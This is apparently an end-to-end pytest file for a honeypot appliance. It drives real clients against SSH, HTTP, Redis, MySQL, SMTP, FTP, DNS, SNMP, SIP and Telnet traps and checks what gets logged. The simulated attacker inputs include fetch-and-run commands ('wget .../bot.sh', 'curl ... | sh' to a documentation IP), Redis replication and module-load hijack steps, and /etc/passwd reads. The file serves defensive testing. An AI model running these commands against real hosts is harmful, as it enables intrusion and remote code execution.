"""Real clients, used the way attackers use them, against every trap of a running appliance.

The appliance runs in-process on the real reactor with one trap of each type on loopback; each
client (OpenSSH with sshpass, curl, redis-cli, the mysql client, dig, snmpget, Python's smtplib
and ftplib, raw Telnet and SIP over sockets) runs in a thread. Every test checks what the
attacker sees and what lands in SQLite; the detection pipeline rides the same event bus and its
verdicts are checked where a trap's policy makes one.
"""

from __future__ import annotations

import ftplib
import json
import re
import shutil
import smtplib
import socket
import sqlite3
import subprocess
import time
from collections.abc import Generator
from pathlib import Path
from typing import Any

import pytest
import pytest_twisted
from twisted.internet import reactor, threads
from twisted.internet.defer import Deferred
from twisted.internet.task import deferLater

from honeymesh.detection.pipeline import DetectionPipeline
from honeymesh.detection.traps.facts import NodeFacts
from honeymesh.detection.traps.registry import FIRST_START_FILE
from honeymesh.detection.traps.telnet import REFUSING_CLIENT, SECOND_OFFER_END
from honeymesh.events import Verdict
from honeymesh.tap import TRAP_PERSONA_PURPOSE, Appliance, build_appliance
from tests.e2e.daemon import free_port
from tests.nodes import Node, make_node

TRAPS = """
[[traps]]
name = "ssh"
type = "ssh"
ports = [0]
bind = ["127.0.0.1", "::1"]

[[traps]]
name = "telnet"
type = "telnet"
ports = [0]
bind = ["127.0.0.1"]

[[traps]]
name = "http"
type = "http"
ports = [0]
bind = ["127.0.0.1", "::1"]
site = "laravel"

[[traps]]
name = "https"
type = "tls"
ports = [0]
bind = ["127.0.0.1"]

[[traps]]
name = "ftp"
type = "ftp"
ports = [0]
bind = ["127.0.0.1"]
credentials = ["backup:backup"]

[[traps]]
name = "smtp"
type = "smtp"
ports = [0]
bind = ["127.0.0.1"]

[[traps]]
name = "redis"
type = "redis"
ports = [0]
bind = ["127.0.0.1"]

[[traps]]
name = "mysql"
type = "mysql"
ports = [0]
bind = ["127.0.0.1"]

[[traps]]
name = "dns"
type = "dns"
ports = [DNS_PORT]
bind = ["127.0.0.1"]

[[traps]]
name = "sip"
type = "sip"
ports = [0]
bind = ["127.0.0.1"]

[[traps]]
name = "snmp"
type = "snmp"
ports = [0]
bind = ["127.0.0.1"]
"""
# UDP and TCP on one port: port 0 would give each transport a port of its own.
TRAPS = TRAPS.replace("DNS_PORT", str(free_port()))


def names(node: Node) -> NodeFacts:
    """The node's own persona names: drawn from its identity alone (no trap names one)."""
    return NodeFacts(node.identity.derive_secret(TRAP_PERSONA_PURPOSE), 0.0)


def sleep(seconds: float) -> Deferred[None]:
    return deferLater(reactor, seconds, lambda: None)


def need(tool: str) -> str:
    path = shutil.which(tool)
    if path is None:
        pytest.skip(f"{tool} is not installed (scripts/setup.sh test installs it)")
    return path


@pytest.fixture(scope="module")
def node(tmp_path_factory: pytest.TempPathFactory) -> Node:
    return make_node(tmp_path_factory.mktemp("traps") / "node", extra=TRAPS)


@pytest.fixture(scope="module")
def running(node: Node) -> Generator[tuple[Appliance, list[Verdict]], None, None]:
    app = build_appliance(node.config, node.identity, reactor)
    verdicts: list[Verdict] = []
    pipeline = DetectionPipeline.from_config(
        node.config, clock=reactor, publish=app.bus.publish, decide=verdicts.append
    )
    app.bus.subscribe(pipeline)
    app.service.startService()
    pytest_twisted.blockon(app.store.run(lambda c: None))
    yield app, verdicts
    pytest_twisted.blockon(app.service.stopService())


@pytest.fixture
def app(running: tuple[Appliance, list[Verdict]]) -> Appliance:
    return running[0]


def port(app: Appliance, name: str, address: str = "127.0.0.1") -> int:
    return next(
        li.info.port for li in app.listeners if li.info.name == name and li.info.address == address
    )


def run(*argv: str, stdin: bytes | None = None, timeout: float = 20) -> Deferred[Any]:
    return threads.deferToThread(
        subprocess.run, argv, input=stdin, capture_output=True, timeout=timeout, check=False
    )


@pytest_twisted.inlineCallbacks
def stored(app: Appliance, node: Node, event_id: str, trap: str, count: int = 1) -> Any:
    """The stored details of ``event_id`` events from ``trap``, once at least ``count`` are in."""
    rows: list[dict[str, Any]] = []
    for _ in range(150):
        yield app.store.run(lambda c: None)  # everything published before is committed
        conn = sqlite3.connect(node.config.data_path(node.config.store.path))
        found = conn.execute(
            "SELECT body FROM events WHERE event_id = ? ORDER BY id", (event_id,)
        ).fetchall()
        conn.close()
        rows = [json.loads(b)["detail"] for (b,) in found]
        rows = [r for r in rows if r.get("trap") == trap]
        if len(rows) >= count:
            return rows
        yield sleep(0.02)
    raise AssertionError(f"only {len(rows)} {event_id} events from {trap} were stored")


SSH_OPTS = ("-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null",
            "-o", "LogLevel=ERROR", "-o", "ConnectTimeout=5")  # fmt: skip


@pytest_twisted.inlineCallbacks
def test_openssh_reaches_the_password_prompt_and_a_weak_login_gets_the_shell(
    app: Appliance, node: Node, running: tuple[Appliance, list[Verdict]]
):
    need("sshpass")
    p = str(port(app, "ssh"))
    bad = yield run("sshpass", "-p", "hunter2", "ssh", *SSH_OPTS, "-p", p, "root@127.0.0.1", "id")
    assert bad.returncode == 5 and b"Permission denied" in bad.stderr
    good = yield run(
        "sshpass", "-p", "root", "ssh", *SSH_OPTS, "-p", p, "root@127.0.0.1",
        "uname -a; cat /proc/cpuinfo | grep name | wc -l",
    )  # fmt: skip
    assert good.returncode == 0
    host = names(node).host_name
    assert good.stdout.decode().startswith(f"Linux {host} 6.1.0-28-amd64 #1 SMP")
    assert good.stdout.decode().splitlines()[-1] == "2"
    shell = yield run(
        "sshpass", "-p", "root", "ssh", "-tt", *SSH_OPTS, "-p", p, "root@127.0.0.1",
        stdin=b"whoami\nwget http://203.0.113.9/bot.sh\nexit\n",
    )  # fmt: skip
    out = shell.stdout.decode(errors="replace")
    assert f"root@{host}:~# " in out and "failed: Connection refused." in out
    creds = yield stored(app, node, "trap.credential", "ssh", 3)
    assert [(c["username"], c["password"], c["accepted"]) for c in creds] == [
        ("root", "hunter2", False),
        ("root", "root", True),
        ("root", "root", True),
    ]
    assert creds[0]["client_version"].startswith("SSH-2.0-OpenSSH_")
    commands = yield stored(app, node, "trap.command", "ssh", 4)
    assert [c["command"] for c in commands] == [
        "uname -a; cat /proc/cpuinfo | grep name | wc -l",
        "whoami",
        "wget http://203.0.113.9/bot.sh",
        "exit",
    ]
    assert commands[2]["download_intent"] == ["http://203.0.113.9/bot.sh"]  # never fetched
    assert "download_intent" not in commands[0]
    sessions = yield stored(app, node, "trap.session", "ssh", 3)
    assert all(len(s["hassh"]) == 32 and "curve25519-sha256" in s["kex_offer"]["kex_algorithms"]
               for s in sessions)  # fmt: skip
    verdicts = running[1]
    assert any(v.detector == "ssh" and v.score == 100 for v in verdicts)
    assert any(
        v.detector == "payload" and "download-url" in str(v.evidence["rules"]) for v in verdicts
    )
    keys = node.config.data_path(Path("traps/ssh"))
    assert sorted(p.name for p in keys.iterdir()) == [
        "ssh_host_ecdsa_key", "ssh_host_ed25519_key", "ssh_host_rsa_key"
    ]  # fmt: skip
    # The shell's host key (Dropbear's, in /etc/dropbear) is the one OpenSSH was shown, and
    # its w names the client.
    scanned = yield run("ssh-keyscan", "-p", p, "-t", "ed25519", "127.0.0.1")
    shown = yield run("ssh-keygen", "-lf", "-", stdin=scanned.stdout)
    inside = yield run(
        "sshpass", "-p", "root", "ssh", *SSH_OPTS, "-p", p, "root@127.0.0.1",
        "dropbearkey -y -f /etc/dropbear/dropbear_ed25519_host_key; w; cat /etc/machine-id; "
        "ip a",
    )  # fmt: skip
    fingerprint = shown.stdout.decode().split()[1]
    assert fingerprint.startswith("SHA256:")
    assert inside.stdout.decode().split("\n")[2] == f"Fingerprint: {fingerprint}"
    assert re.search(r"^root +pts/0 +127\.0\.0\.1 ", inside.stdout.decode(), re.M)
    # The node's own facts: from its identity and its first start, kept in the data directory.
    first = float(node.config.data_path(FIRST_START_FILE).read_text())
    facts = NodeFacts(node.identity.derive_secret(TRAP_PERSONA_PURPOSE), first)
    assert f"\n{facts.machine_id}\n" in inside.stdout.decode()
    assert f"link/ether {facts.mac} " in inside.stdout.decode()


@pytest_twisted.inlineCallbacks
def test_curl_over_http_ipv6_and_tls(app: Appliance, node: Node):
    need("curl")
    p = port(app, "http")
    login = yield run("curl", "-s", "-i", f"http://127.0.0.1:{p}/login",
                      "-d", "log=admin&pwd=Winter2024!")  # fmt: skip
    assert login.stdout.startswith(b"HTTP/1.1 302 Found\r\n")  # Laravel: back to the form
    assert b"Server: Apache/2.4.71 (Debian)" in login.stdout
    v6 = yield run("curl", "-s", "-g", f"http://[::1]:{port(app, 'http', '::1')}/.env")
    assert b"DB_PASSWORD=" in v6.stdout
    tls = yield run(
        "curl", "-sk", "-u", "admin:admin", f"https://127.0.0.1:{port(app, 'https')}/admin/"
    )
    assert b"<title>401 Unauthorized</title>" in tls.stdout  # Basic auth: never let in
    creds = yield stored(app, node, "trap.credential", "http")
    assert (creds[0]["username"], creds[0]["password"], creds[0]["method"]) == (
        "admin",
        "Winter2024!",
        "form",
    )
    hellos = yield stored(app, node, "tls.client_hello", "https")
    assert re.fullmatch(r"t13[di]\d{4}(h2|h1)_[0-9a-f]{12}_[0-9a-f]{12}", hellos[0]["ja4"])
    assert len(hellos[0]["ja3"]) == 32
    basic = yield stored(app, node, "trap.credential", "https")
    assert basic[0]["method"] == "basic" and basic[0]["username"] == "admin"
    requests = yield stored(app, node, "trap.request", "http", 2)
    assert {r["path"] for r in requests} == {"/login", "/.env"}
    assert requests[0]["user_agent"].startswith("curl/")


@pytest_twisted.inlineCallbacks
def test_redis_cli_attacks_are_answered_and_recorded(app: Appliance, node: Node):
    need("redis-cli")
    p = str(port(app, "redis"))
    out = []
    for command in (["config", "set", "dir", "/root/.ssh"], ["slaveof", "203.0.113.5", "8886"],
                    ["module", "load", "/tmp/exp.so"], ["auth", "foobared"]):  # fmt: skip
        result = yield run("redis-cli", "-h", "127.0.0.1", "-p", p, *command)
        out.append(result.stdout.decode().strip())
    assert out[0].startswith("ERR CONFIG SET failed (possibly related to argument 'dir')")
    assert out[1] == "OK"
    assert out[2].startswith("ERR MODULE command not allowed")
    assert out[3].startswith("ERR AUTH <password> called without any password configured")
    sessions = yield stored(app, node, "trap.session", "redis", 4)
    assert sessions[0]["config_set"] == {"dir": "/root/.ssh"}
    assert sessions[1]["replicaof"] == "203.0.113.5:8886"
    creds = yield stored(app, node, "trap.credential", "redis")
    assert creds[0]["password"] == "foobared"


@pytest_twisted.inlineCallbacks
def test_mysql_client_is_denied_and_its_password_recovered(app: Appliance, node: Node):
    client = shutil.which("mysql") or need("mariadb")
    result = yield run(client, "-h", "127.0.0.1", "-P", str(port(app, "mysql")),
                       "-u", "root", "-ppassword", "-e", "select 1")  # fmt: skip
    # From this host root is MariaDB's unix_socket account: 1698, as Debian's mariadb says.
    assert result.stderr == b"ERROR 1698 (28000): Access denied for user 'root'@'127.0.0.1'\n"
    creds = yield stored(app, node, "trap.credential", "mysql")
    assert creds[0]["username"] == "root" and creds[0]["password"] == "password"
    assert creds[0]["password_recovered"] is True
    assert creds[0]["client_attributes"].get("_client_name")


@pytest_twisted.inlineCallbacks
def test_smtplib_auth_relay_and_a_message(app: Appliance, node: Node):
    p = port(app, "smtp")
    mail = names(node).mail_host

    def attack() -> tuple[int, bytes, dict[str, Any]]:
        with smtplib.SMTP("127.0.0.1", p, timeout=5) as smtp:
            _, banner = smtp.ehlo("scanner.test")
            try:
                smtp.login("admin", "admin123")
            except smtplib.SMTPAuthenticationError as e:
                auth_code = e.smtp_code
            refused = smtp.sendmail(
                "x@evil.test", [f"root@{mail}", "ceo@victim.test"],
                b"Subject: hi\r\n\r\ncurl http://203.0.113.9/x | sh\r\n",
            )  # fmt: skip
        return auth_code, banner, refused

    auth_code, banner, refused = yield threads.deferToThread(attack)
    assert auth_code == 535 and banner.startswith(f"{mail}\nPIPELINING".encode())
    assert refused == {"ceo@victim.test": (454, b"4.7.1 <ceo@victim.test>: Relay access denied")}
    creds = yield stored(app, node, "trap.credential", "smtp")
    assert creds[0]["username"] == "admin" and creds[0]["password"] == "admin123"
    (message,) = yield stored(app, node, "trap.command", "smtp")
    assert message["to"] == [f"root@{mail}"] and "curl http" in message["command"]


@pytest_twisted.inlineCallbacks
def test_ftplib_logins(app: Appliance, node: Node):
    p = port(app, "ftp")

    def attack() -> tuple[str, str, str, list[str], list[str], bytes]:
        ftp = ftplib.FTP()
        welcome = ftp.connect("127.0.0.1", p, timeout=5)
        try:
            ftp.login("admin", "admin")
        except ftplib.error_perm as e:
            refused = str(e)
        ftp.close()
        ftp = ftplib.FTP()
        ftp.connect("127.0.0.1", p, timeout=5)
        ftp.login("backup", "backup")
        where = ftp.pwd()
        listing: list[str] = []
        ftp.retrlines("LIST -a", listing.append)  # passive mode, ftplib's default
        names = ftp.nlst("/etc")
        hostname = bytearray()
        ftp.retrbinary("RETR /etc/hostname", hostname.extend)
        ftp.close()
        return welcome, refused, where, listing, names, bytes(hostname)

    welcome, refused, where, listing, names, hostname = yield threads.deferToThread(attack)
    # in the user's home on the node's fake machine, as a Debian vsftpd starts a local user
    assert (welcome, refused, where) == (
        "220 (vsFTPd 3.0.3)",
        "530 Login incorrect.",
        "/home/backup",
    )
    assert [line.rsplit(" ", 1)[1] for line in listing] == [
        ".", "..", ".bash_logout", ".bashrc", ".profile"
    ]  # fmt: skip
    assert "/etc/passwd" in names and "/etc/shadow" in names
    assert hostname.strip() and hostname.endswith(b"\n")  # the node's own host name
    # curl: EPSV, CWD by CWD, SIZE, then RETR, as it fetches a URL (a path from the home
    # directory, as from a real vsftpd: /%2F makes it absolute)
    url = f"ftp://backup:backup@127.0.0.1:{p}/%2Fetc/hostname"
    fetched = yield threads.deferToThread(
        subprocess.run,
        ["curl", "-sS", "--max-time", "10", url],
        capture_output=True,
        check=False,
    )
    assert fetched.returncode == 0, fetched.stderr
    assert fetched.stdout == hostname
    creds = yield stored(app, node, "trap.credential", "ftp", 3)
    assert [(c["username"], c["accepted"]) for c in creds] == [
        ("admin", False), ("backup", True), ("backup", True)
    ]  # fmt: skip


@pytest_twisted.inlineCallbacks
def test_dig_gets_answers_nxdomain_and_any_is_flagged(app: Appliance, node: Node):
    need("dig")
    p = str(port(app, "dns"))
    own = names(node)  # the zone and its hosts: the node's own domain and addresses
    zone, web = own.domain, own.web_host
    answer = yield run("dig", "@127.0.0.1", "-p", p, web, "+short", "+tries=1")
    assert answer.stdout.decode().strip() == str(own.neighbour("dns/web"))
    missing = yield run("dig", "@127.0.0.1", "-p", p, f"nothere.{zone}", "+tries=1")
    soa = f"IN\tSOA\t{own.name_server}.".encode()
    assert b"status: NXDOMAIN" in missing.stdout and soa in missing.stdout
    probe = yield run(
        "dig", "@127.0.0.1", "-p", p, zone, "ANY", "+notcp", "+tries=1", "+bufsize=4096"
    )
    assert b"status: NOERROR" in probe.stdout and b"ANSWER: 3," in probe.stdout  # as named
    transfer = yield run("dig", "@127.0.0.1", "-p", p, zone, "AXFR", "+tries=1")
    assert transfer.stdout.count(b"IN\tSOA\t") == 2  # over TCP, on the same port
    sessions = yield stored(app, node, "trap.session", "dns", 4)
    assert [s.get("qname") for s in sessions[:3]] == [web, f"nothere.{zone}", zone]
    assert sessions[2]["amplification_probe"] is True
    assert sessions[3]["transport"] == "tcp" and sessions[3]["queries"][0]["qtype"] == "AXFR"


@pytest_twisted.inlineCallbacks
def test_snmpget_with_the_right_and_a_wrong_community(app: Appliance, node: Node):
    need("snmpget")
    target = f"127.0.0.1:{port(app, 'snmp')}"
    right = yield run("snmpget", "-v2c", "-c", "public", "-t", "1", "-r", "0", "-On", target,
                      "1.3.6.1.2.1.1.1.0")  # fmt: skip
    # Answered in full, although the answer is longer than the question (no tooBig any more).
    assert right.stdout.startswith(
        b'.1.3.6.1.2.1.1.1.0 = STRING: "Linux %s ' % names(node).host_name.encode()
    )
    wrong = yield run("snmpget", "-v2c", "-c", "secret", "-t", "1", "-r", "0", target,
                      "1.3.6.1.2.1.1.5.0")  # fmt: skip
    assert b"Timeout" in wrong.stdout + wrong.stderr
    creds = yield stored(app, node, "trap.credential", "snmp", 2)
    assert [(c["username"], c["accepted"]) for c in creds] == [("public", True), ("secret", False)]


@pytest_twisted.inlineCallbacks
def test_sip_options_scan_like_sipvicious(app: Appliance, node: Node):
    """Debian's kamailio.cfg drops friendly-scanner without a word, and so does the default
    persona; the scan is recorded all the same. A softphone's OPTIONS to the server itself
    gets Kamailio's keepalive answer."""
    p = port(app, "sip")
    request = (
        b"OPTIONS sip:100@127.0.0.1 SIP/2.0\r\nVia: SIP/2.0/UDP 127.0.0.1:5061;branch=z9hG4bK-1;"
        b'rport\r\nMax-Forwards: 70\r\nTo: "sipvicious"<sip:100@1.1.1.1>\r\n'
        b'From: "sipvicious"<sip:100@1.1.1.1>;tag=6236353838303630\r\nUser-Agent: '
        b"friendly-scanner\r\nCall-ID: 12345\r\nContact: sip:100@127.0.0.1:5061\r\n"
        b"CSeq: 1 OPTIONS\r\nAccept: application/sdp\r\nContent-Length: 0\r\n\r\n"
    )
    keepalive = (
        request.replace(b"sip:100@127.0.0.1 SIP", b"sip:127.0.0.1:%d SIP" % p)
        .replace(b"friendly-scanner", b"Linphone/5.2.0")
        .replace(b"12345", b"12346")
    )

    def ask(data: bytes) -> bytes:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.settimeout(1)
            s.sendto(data, ("127.0.0.1", p))
            try:
                return s.recv(65535)
            except TimeoutError:
                return b""

    assert (yield threads.deferToThread(ask, request)) == b""
    reply = yield threads.deferToThread(ask, keepalive)
    assert reply.startswith(b"SIP/2.0 200 Keepalive\r\n")
    assert b"\r\nServer: kamailio (5.6.3 (x86_64/linux))\r\nContent-Length: 0\r\n\r\n" in reply
    scan, answered = yield stored(app, node, "trap.session", "sip", 2)
    assert scan["known_scanner"] is True and scan["method"] == "OPTIONS" and "status" not in scan
    assert answered["status"] == 200


@pytest_twisted.inlineCallbacks
def test_telnet_client_negotiates_logs_in_and_runs_commands(app: Appliance, node: Node):
    p = port(app, "telnet")

    def session() -> bytes:
        seen = b""
        with socket.create_connection(("127.0.0.1", p), timeout=5) as s:
            # the option answers of a client that refuses them all, each once its offer came
            for send, wait in ((REFUSING_CLIENT[0], SECOND_OFFER_END),
                               (REFUSING_CLIENT[1], b"login: "),
                               (b"admin\r\n", b"Password: "), (b"admin\r\n", b"$ "),
                               (b"cat /etc/passwd | head -n 1\r\n", b"$ "),
                               (b"exit\r\n", None)):  # fmt: skip
                s.sendall(send)
                deadline = time.monotonic() + 5
                while wait is not None and not seen.endswith(wait) and time.monotonic() < deadline:
                    seen += s.recv(4096)
            while chunk := s.recv(4096):
                seen += chunk
        return seen

    seen = yield threads.deferToThread(session)
    assert (
        f"{names(node).host_name} login: ".encode() in seen
        and b"root:x:0:0:root:/root:/bin/bash" in seen
    )
    commands = yield stored(app, node, "trap.command", "telnet", 2)
    assert [c["command"] for c in commands] == ["cat /etc/passwd | head -n 1", "exit"]
